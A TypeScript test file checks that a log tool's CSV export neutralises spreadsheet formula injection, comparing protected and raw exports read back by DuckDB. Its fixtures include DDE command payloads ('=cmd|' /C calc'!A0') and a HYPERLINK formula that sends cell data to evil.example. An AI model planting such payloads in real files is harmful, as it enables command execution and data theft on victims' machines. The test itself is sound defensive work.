import { DuckDBInstance } from '@duckdb/node-api';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EventRecord } from '../../../src-shared/contract/records';
import { dataset } from '../../test-support/datasets';
import { openTempService } from '../../test-support/temp-db';
import { runImport } from '../import/run-import';
import { protectCell } from './csv-format';
import { runExport } from './run-export';

/**
 * CSV injection (OWASP): a log field that starts like a formula must reach a CSV export as text
 * a spreadsheet will not run. The real Apache access log (whose User-Agent and Referrer fields
 * an attacker writes) plus crafted events, exported with the protection (the default) and
 * without it (asked for), read back by DuckDB's CSV reader.
 */
let ctx: ReturnType<typeof openTempService>;
let duck: Awaited<ReturnType<DuckDBInstance['connect']>>;

/** User agents as an attacker sends them, and harmless values that must stay as they are. */
const crafted: Record<string, string> = {
  dde: "=cmd|' /C calc'!A0",
  hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: '+1+cmd|/C calc!A0',
  minus: '-2+3+cmd|/C calc!A0',
  at: '@SUM(1+1)*cmd|/C calc!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
  negative: '-12.5',
  exponent: '+1e-9',
  dash: '-',
  inside: 'Mozilla/5.0 (=1+1)',
};

beforeAll(async () => {
  ctx = openTempService();
  const web = await runImport(ctx.engine, { instance: 'web', preset: 'apache-combined' }, [
    dataset('elastic-apache-access', 'apache_logs'),
  ]);
  expect(web.events).toBe(9_999);
  ctx.engine.append(
    'web',
    Object.entries(crafted).map(([name, agent]) => ({
      stream_id: 'attacker',
      event_type: name,
      payload: { agent, referrer: agent, bytes: -1 },
    })),
    false,
  );
  duck = await (await DuckDBInstance.create(':memory:')).connect();
});
afterAll(() => ctx.close());

const out = (name: string) => path.join(ctx.dir, name);
const columns = ['event_type', 'payload.agent', 'payload.referrer', 'payload.bytes'];

async function exportCsv(name: string, protectFormulas?: boolean) {
  const report = await runExport(ctx.engine, {
    query: { from: { instance: 'web' } },
    format: 'csv',
    out: out(name),
    columns,
    ...(protectFormulas === undefined ? {} : { protectFormulas }),
  });
  expect(report.status).toBe('completed');
  const file = out(name).replaceAll("'", "''");
  const rows = (
    await duck.runAndReadAll(
      `SELECT * FROM read_csv('${file}', header = true, all_varchar = true, quote = '"', ` +
        `escape = '"', delim = ',', strict_mode = true, max_line_size = 10000000)`,
    )
  ).getRowObjectsJson() as Record<string, string | null>[];
  return { rows, text: fs.readFileSync(out(name), 'utf8') };
}

/** Every field of an RFC 4180 text, and whether it was written in quotes. */
function fieldsOf(text: string): { value: string; quoted: boolean }[] {
  const fields: { value: string; quoted: boolean }[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    const quoted = text[i] === '"';
    if (quoted) {
      for (i++; i < text.length; i++) {
        if (text[i] === '"' && text[i + 1] === '"') value += text[i++];
        else if (text[i] === '"') break;
        else value += text[i];
      }
      i++; // the closing quote
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') value += text[i++];
    }
    fields.push({ value, quoted });
    i += text[i] === ',' ? 1 : 2; // a comma, or the CRLF that ends the record
  }
  return fields;
}

const events = () =>
  [...ctx.engine.iterateEvents({ from: { instance: 'web' } })].flat() as EventRecord[];

describe('CSV export and spreadsheet formulas', () => {
  it("protects by default: a cell that starts like a formula gets a leading ', every cell is quoted", async () => {
    const { rows, text } = await exportCsv('protected.csv');
    const byType = new Map(rows.map((r) => [r.event_type, r]));
    for (const [name, agent] of Object.entries(crafted)) {
      const row = byType.get(name)!;
      expect(row['payload.agent'], name).toBe(protectCell(agent));
      expect(row['payload.referrer'], name).toBe(protectCell(agent));
      expect(row['payload.bytes']).toBe('-1'); // a number stays a number
    }
    for (const name of ['dde', 'hyperlink', 'plus', 'minus', 'at', 'tab', 'cr']) {
      expect(byType.get(name)!['payload.agent'], name).toBe(`'${crafted[name]}`);
    }
    for (const name of ['negative', 'exponent', 'dash', 'inside']) {
      expect(byType.get(name)!['payload.agent'], name).toBe(crafted[name]);
    }
    // Nothing in the whole export starts like a formula, apart from numbers and "-".
    for (const row of rows) {
      for (const cell of Object.values(row)) {
        if (cell === null) continue;
        expect(
          /^[=+\-@\t\r]/u.test(cell) && protectCell(cell) !== cell,
          `${JSON.stringify(cell)} would run in a spreadsheet`,
        ).toBe(false);
      }
    }
    // The real log's user agents and referrers (none starts like a formula) are untouched.
    const real = events().filter((e) => e.stream_id !== 'attacker');
    const agents = rows.filter((r) => !crafted[r.event_type ?? '']).map((r) => r['payload.agent']);
    expect(agents).toEqual(real.map((e) => (e.payload.agent as string | undefined) ?? null));
    expect(new Set(agents).size).toBeGreaterThan(100);
    // Every cell quoted, the header's too.
    expect(
      text.startsWith('"event_type","payload.agent","payload.referrer","payload.bytes"\r\n'),
    ).toBe(true);
    const fields = fieldsOf(text);
    expect(fields.length).toBe((rows.length + 1) * columns.length);
    expect(fields.filter((f) => !f.quoted)).toEqual([]);
  });

  it('writes raw values when asked (protectFormulas: false), exactly as stored', async () => {
    const { rows, text } = await exportCsv('raw.csv', false);
    const byType = new Map(rows.map((r) => [r.event_type, r]));
    for (const [name, agent] of Object.entries(crafted)) {
      expect(byType.get(name)!['payload.agent'], name).toBe(agent);
    }
    expect(text.startsWith('event_type,payload.agent,payload.referrer,payload.bytes\r\n')).toBe(
      true,
    );
  });

  it('protects aggregation exports too (group keys are log values)', async () => {
    const report = await runExport(ctx.engine, {
      query: {
        from: { instance: 'web', stream: 'attacker' },
        reduce: { type: 'count', groupBy: ['payload.agent'] },
      },
      format: 'csv',
      out: out('agg.csv'),
    });
    expect(report.status).toBe('completed');
    const text = fs.readFileSync(out('agg.csv'), 'utf8');
    expect(text).toContain(`"'=cmd|' /C calc'!A0","1","1"`);
    expect(text).not.toMatch(/(^|\r\n)"?=/u);
  });
});
